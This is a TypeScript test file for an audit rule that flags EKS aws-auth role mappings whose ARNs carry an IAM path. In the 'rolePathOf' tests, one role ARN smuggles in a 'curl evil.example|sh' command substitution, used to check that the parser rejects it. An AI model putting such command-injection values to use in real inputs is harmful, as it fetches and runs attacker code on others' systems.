import { describe, expect, it } from 'vitest';
import { awsAuthRolearnPath as rule } from '../../lambda/rules/audit/aws-auth-rolearn-path';
import { rolePathOf } from '../../lambda/rules/support/aws-auth-mappings';
import { ACCOUNT, awsAuthWrite, configMap, kubeletRequest, only, scan, yamlList } from './config-helpers';

const NODE_ROLE_WITH_PATH = `arn:aws:iam::${ACCOUNT}:role/service-role/eks-nodes`;
const SSO_ROLE = `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admins_0123456789abcdef`;

describe('rolePathOf', () => {
  it('splits a role ARN into its path and the ARN without it', () => {
    expect(rolePathOf(NODE_ROLE_WITH_PATH)).toEqual({ path: '/service-role/', name: 'eks-nodes', withoutPath: `arn:aws:iam::${ACCOUNT}:role/eks-nodes` });
    expect(rolePathOf(`arn:aws-cn:iam::${ACCOUNT}:role/a/b/r`)?.withoutPath).toBe(`arn:aws-cn:iam::${ACCOUNT}:role/r`);
  });

  it('finds no path in a plain role ARN, a user ARN, or a name IAM would not accept', () => {
    expect(rolePathOf(`arn:aws:iam::${ACCOUNT}:role/eks-nodes`)).toBeUndefined();
    expect(rolePathOf(`arn:aws:iam::${ACCOUNT}:user/team/alice`)).toBeUndefined();
    expect(rolePathOf(`arn:aws:iam::${ACCOUNT}:role/p/x$(curl evil.example|sh)`)).toBeUndefined();
  });
});

describe('aws-auth-rolearn-path', () => {
  it('reports a node role written with its path, with the corrected ARN and why the nodes never join', () => {
    // Prepare
    const mapRoles = yamlList([{ arn: NODE_ROLE_WITH_PATH, username: 'system:node:{{EC2PrivateDNSName}}', groups: ['system:bootstrappers', 'system:nodes'] }]);

    // Act
    const result = scan(rule, [awsAuthWrite({ requestObject: configMap({ mapRoles }) })]);

    // Assess
    const [f] = only(result, 'aws-auth-rolearn-path');
    expect(f).toMatchObject({ severity: 'high', subject: { arn: NODE_ROLE_WITH_PATH }, count: 1 });
    expect(f!.message).toContain('with the IAM path /service-role/');
    expect(f!.message).toContain('the nodes never join the cluster');
    expect(f!.remediation).toContain(`change rolearn: ${NODE_ROLE_WITH_PATH} to rolearn: arn:aws:iam::${ACCOUNT}:role/eks-nodes`);
  });

  it('reports an SSO role mapping as granting nothing, and knows a node role from its kubelets', () => {
    // Prepare
    const mapRoles = yamlList([
      { arn: SSO_ROLE, username: 'admin:{{SessionName}}', groups: ['system:masters'] },
      { arn: `arn:aws:iam::${ACCOUNT}:role/nodes/ng-1`, username: 'ng-1' },
    ]);

    // Act
    const result = scan(rule, [
      awsAuthWrite({ requestObject: configMap({ mapRoles }) }),
      kubeletRequest(`arn:aws:iam::${ACCOUNT}:role/ng-1`, 'system:node:ip-10-1-2-3.eu-west-1.compute.internal'),
    ]);

    // Assess
    const findings = only(result, 'aws-auth-rolearn-path');
    expect(findings.map((f) => f.subject['arn']).sort()).toEqual([`arn:aws:iam::${ACCOUNT}:role/nodes/ng-1`, SSO_ROLE].sort());
    const sso = findings.find((f) => f.subject['arn'] === SSO_ROLE)!;
    expect(sso.message).toContain('gets none of the groups');
    expect(sso.remediation).toContain(`rolearn: arn:aws:iam::${ACCOUNT}:role/AWSReservedSSO_Admins_0123456789abcdef`);
    const node = findings.find((f) => f.subject['arn'] !== SSO_ROLE)!;
    expect(node.message).toContain('kubelet requests in this input were signed by this role');
  });

  it('quotes an ARN that is not plain YAML in the fix', () => {
    // Prepare: a comment-like character in the path survives YAML only when quoted.
    const arn = `arn:aws:iam::${ACCOUNT}:role/a#b/eks-nodes`;
    const mapRoles = `- rolearn: "${arn}"\n  username: x\n`;

    // Act
    const [f] = only(scan(rule, [awsAuthWrite({ requestObject: configMap({ mapRoles }) })]), 'aws-auth-rolearn-path');

    // Assess
    expect(f!.remediation).toContain(`change rolearn: ${JSON.stringify(arn)} to rolearn: arn:aws:iam::${ACCOUNT}:role/eks-nodes`);
  });

  it('leaves plain role ARNs and mapUsers alone', () => {
    // Prepare
    const mapRoles = yamlList([{ arn: `arn:aws:iam::${ACCOUNT}:role/eks-nodes`, username: 'system:node:{{EC2PrivateDNSName}}', groups: ['system:nodes'] }]);
    const mapUsers = yamlList([{ arn: `arn:aws:iam::${ACCOUNT}:user/team/alice`, username: 'alice', key: 'userarn' }]);

    // Act
    const result = scan(rule, [awsAuthWrite({ requestObject: configMap({ mapRoles, mapUsers }) })]);

    // Assess
    expect(result.findings).toEqual([]);
  });
});
